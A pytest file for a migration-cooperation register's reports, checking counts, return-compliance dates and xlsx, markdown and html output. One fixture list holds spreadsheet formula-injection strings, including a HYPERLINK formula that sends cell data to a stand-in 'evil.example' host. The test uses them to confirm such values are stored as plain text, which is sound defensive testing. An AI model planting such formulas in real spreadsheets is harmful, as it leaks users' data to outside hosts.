"""The register report on a small register built by hand: every number checked."""

from __future__ import annotations

import datetime as dt
import subprocess
import sys
from pathlib import Path

import pytest

from twintui.core import reports
from twintui.core.model import Arrangement, Partner
from twintui.core.register import Filter, RegisterList
from twintui.core.store import Store
from twintui.core.workbook.returns import QuarterlyReturn

TODAY = dt.date(2026, 11, 28)  # the last quarter that has ended: 2026-Q3, due 2026-10-30
D = dt.date


def fill(store: Store) -> None:
    """Five arrangements of NOR, SWE and DNK, with partners and three tracked returns."""
    with store.transaction("test") as tx:
        a1 = Arrangement(reporting_state="NOR", title="Selection missions with Sweden", status="active",
                         activity_types=["staff exchange", "seminar"], areas=["selection missions"],
                         start=D(2024, 2, 1), funding_source="national budget", funding_amount=1000, currency="NOK",
                         best_practices="Shadow a <full> mission", lessons_learned="Agree indicators first",
                         reported_quarter="2026-Q3", contact_name="Ingrid")
        a2 = Arrangement(reporting_state="NOR", title="Housing practice", status="completed", activity_types=["visit"],
                         areas=["housing"], start=D(2020, 1, 1), end=D(2021, 6, 30),
                         funding_source="national budget", funding_amount=500, currency="NOK",
                         lessons_learned="=1+1 is text", reported_quarter="2021-Q2")
        a3 = Arrangement(reporting_state="SWE", title="Cancelled seminar", status="cancelled",
                         activity_types=["seminar"], areas=["selection missions"], start=D(2025, 1, 1),
                         end=D(2025, 3, 1), funding_source="ERF Community Action", funding_amount=2000,
                         currency="EUR")
        a4 = Arrangement(reporting_state="SWE", title="Planned secondment", status="planned",
                         activity_types=["secondment"], areas=["housing", "selection missions"], start=D(2027, 1, 1))
        a5 = Arrangement(reporting_state="DNK", title="Danish housing", status="completed", areas=["housing"],
                         start=D(2024, 7, 1), end=D(2025, 6, 30), contact_name="Anna Berg",
                         contact_email="anna@example.dk")
        for arrangement in (a1, a2, a3, a4, a5):
            tx.save(arrangement)
        for parent, partner in (
            (a1, Partner(name="Norwegian Directorate of Immigration", type="state", country="NOR", role="lead",
                         contact="Ingrid, ingrid@udi.example.no")),
            (a1, Partner(name="Swedish Migration Agency", type="state", country="SWE", role="partner",
                         contact="Sven")),
            (a1, Partner(name="Red Cross", type="NGO", country="NOR", role="partner", contact="Kari")),
            (a2, Partner(name="UNHCR", type="UNHCR", role="facilitator", contact="resettlement unit")),
            (a2, Partner(name="Norwegian Directorate of Immigration", type="state", country="NOR", role="lead")),
        ):
            tx.save(partner, parent=parent)
        tx.save(QuarterlyReturn(id="NOR-2026-Q2", state="NOR", quarter="2026-Q2", exported_at="2026-07-01T08:00:00+00:00",
                                received_at="2026-07-20T09:00:00+00:00"))
        tx.save(QuarterlyReturn(id="NOR-2026-Q1", state="NOR", quarter="2026-Q1",
                                received_at="2026-05-15T09:00:00+00:00"))
        tx.save(QuarterlyReturn(id="SWE-2026-Q2", state="SWE", quarter="2026-Q2",
                                exported_at="2026-07-01T08:00:00+00:00"))


@pytest.fixture
def small(store: Store) -> Store:
    fill(store)
    return store


@pytest.fixture
def report(small: Store) -> reports.RegisterReport:
    return reports.build(small, today=TODAY)


def test_by_state_and_status(report: reports.RegisterReport) -> None:
    table = report.table("By state and status")
    assert table.columns == ["State", "Name", "planned", "active", "completed", "suspended", "cancelled", "Total"]
    assert table.column("State") == ["DNK", "NOR", "SWE", "Total"]
    assert table.row("NOR") == {"State": "NOR", "Name": "Norway", "planned": 0, "active": 1, "completed": 1,
                                "suspended": 0, "cancelled": 0, "Total": 2}
    assert table.row("SWE")["planned"] == 1 and table.row("SWE")["cancelled"] == 1
    assert table.row("Total")["Total"] == 5 and table.total_row


def test_by_area_and_activity_type_count_each_tag(report: reports.RegisterReport) -> None:
    areas = report.table("By area")
    assert areas.row("selection missions")["Total"] == 3
    assert areas.row("selection missions")["Share of arrangements"] == pytest.approx(0.6)
    assert areas.row("housing")["Total"] == 3 and areas.row("housing")["completed"] == 2
    assert areas.row("dossier processing")["Total"] == 0  # every area is listed
    activities = report.table("By activity type")
    assert activities.row("seminar")["Total"] == 2 and activities.row("seminar")["cancelled"] == 1
    assert activities.column("Activity type")[0] == "visit"  # the vocabulary's order


def test_by_partner_type(report: reports.RegisterReport) -> None:
    table = report.table("By partner type")
    assert table.row("state") == {"Partner type": "state", "Partners": 3, "Arrangements": 2, "As lead": 2}
    assert table.row("NGO")["Partners"] == 1 and table.row("UNHCR")["Arrangements"] == 1
    assert table.row("IOM")["Partners"] == 0


def test_started_and_ended_per_year_up_to_the_quarter(report: reports.RegisterReport) -> None:
    table = report.table("Started and ended")
    # Cancelled left out; the 2027 start is after the report's quarter (2026-Q3).
    assert table.rows == [[2020, 1, 0], [2021, 0, 1], [2024, 2, 0], [2025, 0, 1]]


def test_return_compliance_by_the_30_day_rule(report: reports.RegisterReport) -> None:
    assert report.quarters == ["2024-Q4", "2025-Q1", "2025-Q2", "2025-Q3", "2025-Q4", "2026-Q1", "2026-Q2", "2026-Q3"]
    summary = report.table("Returns compliance")
    # NOR ran all eight quarters: Q2 on time, Q1 15 days late, six missing.
    assert summary.row("NOR") == {"State": "NOR", "Name": "Norway", "Due": 8, "On time": 1, "Late": 1,
                                  "Missing": 6, "Not yet due": 0, "On-time rate": pytest.approx(1 / 8)}
    # SWE: sent Q2 and never returned it; its planned arrangement starts in 2027 and owes nothing yet.
    assert summary.row("SWE")["Missing"] == 1 and summary.row("SWE")["Due"] == 1
    # DNK's arrangement ran from 2024-07-01 to 2025-06-30: three quarters of the eight.
    assert summary.row("DNK")["Due"] == 3
    assert summary.row("Total")["Due"] == 12 and summary.row("Total")["On time"] == 1
    grid = report.table("Returns by quarter")
    assert grid.row("NOR")["2026-Q2"] == "on time" and grid.row("NOR")["2026-Q1"] == "late (15 d)"
    assert grid.row("SWE")["2026-Q1"] == "" and grid.row("SWE")["2026-Q2"] == "missing"
    assert grid.row("SWE")["2026-Q3"] == ""  # not expected: nothing of Sweden's ran in the quarter
    assert grid.row("DNK")["2025-Q3"] == ""


def test_a_return_not_yet_due() -> None:
    assert reports.compliance_status("", "2026-Q3", D(2026, 10, 30)) == (reports.NOT_DUE, None)
    assert reports.compliance_status("", "2026-Q3", D(2026, 10, 31)) == (reports.MISSING, None)
    assert reports.compliance_status("2026-10-30T23:00:00+00:00", "2026-Q3", TODAY) == (reports.ON_TIME, None)
    assert reports.compliance_status("2026-11-01T08:00:00+00:00", "2026-Q3", TODAY) == (reports.LATE, 2)


def test_an_earlier_quarter_moves_the_window(small: Store) -> None:
    report = reports.build(small, "2025-Q2", today=TODAY)
    assert report.quarters[0] == "2023-Q3" and report.quarters[-1] == "2025-Q2"
    assert report.table("Returns compliance").row("NOR")["Due"] == 6  # from 2024-02-01: 2024-Q1 … 2025-Q2
    assert reports.build(small, "2025-Q1", today=TODAY).table("Started and ended").rows == [
        [2020, 1, 0], [2021, 0, 1], [2024, 2, 0]]  # DNK's end on 2025-06-30 is after 2025-Q1


def test_funding_by_source_and_currency(report: reports.RegisterReport) -> None:
    table = report.table("Funding")
    assert table.rows == [
        ["(not given)", "(not given)", 2, 0, 0.0, None],
        ["national budget", "NOK", 2, 2, 1500.0, 750.0],
    ]  # the cancelled ERF arrangement is left out


def test_practices_collected_by_area_and_activity_type(report: reports.RegisterReport) -> None:
    groups = {(g.kind, g.topic): g.entries for g in report.practices}
    assert [e["id"] for e in groups[("area", "selection missions")]] == ["TW-NOR-0001"]
    entry = groups[("activity type", "seminar")][0]
    assert entry["states"] == "NOR, SWE" and entry["quarter"] == "2026-Q3"
    assert entry["lessons_learned"] == "Agree indicators first"
    assert [e["id"] for e in groups[("area", "housing")]] == ["TW-NOR-0002"]  # only it has a text
    sheet = report.table("Practices by area")
    assert sheet.row("selection missions")["Activity types"] == "staff exchange; seminar"


def test_xlsx_has_a_sheet_per_table_with_number_formats(report: reports.RegisterReport, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = reports.write(report, tmp_path / "report.xlsx")
    book = load_workbook(path)
    assert book.sheetnames == ["About", "By state and status", "By activity type", "By area", "By partner type",
                               "Started and ended", "Returns compliance", "Returns by quarter", "Funding",
                               "Practices by area", "Practices by activity type"]
    sheet = book["By state and status"]
    assert [c.value for c in sheet[1]] == ["State", "Name", "planned", "active", "completed", "suspended",
                                           "cancelled", "Total"]
    assert [c.value for c in sheet[3]] == ["NOR", "Norway", 0, 1, 1, 0, 0, 2]
    assert sheet["H3"].number_format == "#,##0" and sheet.freeze_panes == "A2"
    assert sheet["A5"].value == "Total" and sheet["A5"].font.b
    compliance = book["Returns compliance"]
    assert compliance["H3"].value == pytest.approx(0.125) and compliance["H3"].number_format == "0.0%"
    funding = book["Funding"]
    assert funding["E3"].value == 1500 and funding["E3"].number_format == "#,##0.00"
    assert book["Started and ended"]["A2"].value == 2020
    practices = book["Practices by area"]
    texts = {row[1]: row for row in practices.iter_rows(min_row=2, values_only=True)}
    assert texts["TW-NOR-0002"][6] == "=1+1 is text"
    # The README lists practices by area *and* by activity type: both are sheets.
    by_type = book["Practices by activity type"]
    assert [c.value for c in by_type[1]] == ["Activity type", "Arrangement ID", "Resettlement areas", "States",
                                             "Quarter", "Best practices", "Lessons learned"]
    rows = [row for row in by_type.iter_rows(min_row=2, values_only=True)]
    assert ("seminar", "TW-NOR-0001", "selection missions", "NOR, SWE", "2026-Q3", "Shadow a <full> mission",
            "Agree indicators first") in rows
    assert {row[0] for row in rows} == {"staff exchange", "seminar", "visit"}


FORMULA_LOOKING = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1 more mission", "-2 days late",
                   "@SUM(A1:A9)", "=1+1"]


def test_text_that_looks_like_a_formula_is_written_as_text(store: Store, tmp_path: Path) -> None:
    """In every kind of sheet (plain rows and formatted ones): a string cell, never a formula."""
    import zipfile

    from openpyxl import load_workbook

    with store.transaction("test") as tx:
        for text in FORMULA_LOOKING:
            tx.save(Arrangement(reporting_state="NOR", title=text, status="active", areas=["housing"],
                                start=D(2025, 1, 1), best_practices=text, lessons_learned=text,
                                funding_source=text, funding_amount=10, currency="NOK"))
    path = reports.write(reports.build(store, today=TODAY), tmp_path / "report.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)
    book = load_workbook(path)
    cells = {(sheet.title, cell.coordinate): cell for sheet in book for row in sheet.iter_rows() for cell in row
             if cell.value in FORMULA_LOOKING}
    where = {(sheet, cell.value) for (sheet, _), cell in cells.items()}
    for text in FORMULA_LOOKING:
        assert {("Funding", text), ("Practices by area", text)} <= where, text
    assert all(cell.data_type == "s" for cell in cells.values()), {k: c.data_type for k, c in cells.items()}


def test_markdown_and_html(report: reports.RegisterReport, tmp_path: Path) -> None:
    md = reports.write(report, tmp_path / "report.md").read_text()
    assert "## Arrangements by reporting state and status" in md
    assert "| NOR | Norway | 0 | 1 | 1 | 0 | 0 | 2 |" in md
    assert "| **Total** | **all states** |" in md
    assert "| Funding source | Currency | Arrangements | Funded | Total | Average |" in md
    assert "| national budget | NOK | 2 | 2 | 1,500.00 | 750.00 |" in md
    assert "#### Selection missions (1)" in md and "Agree indicators first" in md
    html = reports.write(report, tmp_path / "report.html").read_text()
    assert "<td class=\"num\">12.5%</td>" in html
    assert "Shadow a &lt;full&gt; mission" in html  # escaped
    assert "<tr class=\"total\">" in html


def test_bad_names_are_refused(report: reports.RegisterReport, tmp_path: Path) -> None:
    with pytest.raises(reports.ReportError, match="does not end in"):
        reports.write(report, tmp_path / "report.csv")
    with pytest.raises(reports.ReportError, match="does not exist"):
        reports.write(report, tmp_path / "missing" / "report.xlsx")
    assert not list(tmp_path.glob("*report*"))


def test_an_empty_register(store: Store, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    report = reports.build(store, today=TODAY)
    assert report.arrangements == 0 and report.table("By state and status").row("Total")["Total"] == 0
    book = load_workbook(reports.write(report, tmp_path / "r.xlsx"))
    assert len(book.sheetnames) == 11 and ["Arrangements", "0"] in [[c.value for c in r] for r in book["About"]]
    assert [[c.value for c in r] for r in book["By state and status"].iter_rows(min_row=2)] == [
        ["Total", "all states", 0, 0, 0, 0, 0, 0]]
    md = reports.write(report, tmp_path / "r.md").read_text()
    assert "- **Arrangements:** 0" in md and "| **Total** | **all states** | **0** | **0** |" in md
    html = reports.write(report, tmp_path / "r.html").read_text()
    assert '<tr class="total"><td>Total</td><td>all states</td><td class="num">0</td>' in html


def test_summary_counts_follow_the_filter(small: Store) -> None:
    rows = RegisterList.from_store(small, TODAY)
    counts = reports.summary_counts(rows.query(Filter()))
    assert counts.total == 5
    assert list(counts.by_status.items()) == [("planned", 1), ("active", 1), ("completed", 2), ("suspended", 0),
                                              ("cancelled", 1)]
    assert counts.by_area["selection missions"] == 3 and counts.by_area["housing"] == 3
    filtered = reports.summary_counts(rows.query(Filter(states=frozenset({"NOR"}))))
    assert filtered.total == 2 and filtered.by_area["housing"] == 1 and filtered.by_status["active"] == 1
    assert filtered.lines()[0] == "2 arrangements: active 1 · completed 1"


def test_importing_the_report_modules_loads_no_heavy_library() -> None:
    code = ("import sys, twintui.core.reports, twintui.core.experts, twintui.commands.reports\n"
            "print(','.join(sorted(m for m in sys.modules if m.split('.')[0] in "
            "{'textual', 'rich', 'pandas', 'openpyxl', 'jinja2', 'numpy'})))")
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert result.stdout.strip() == ""
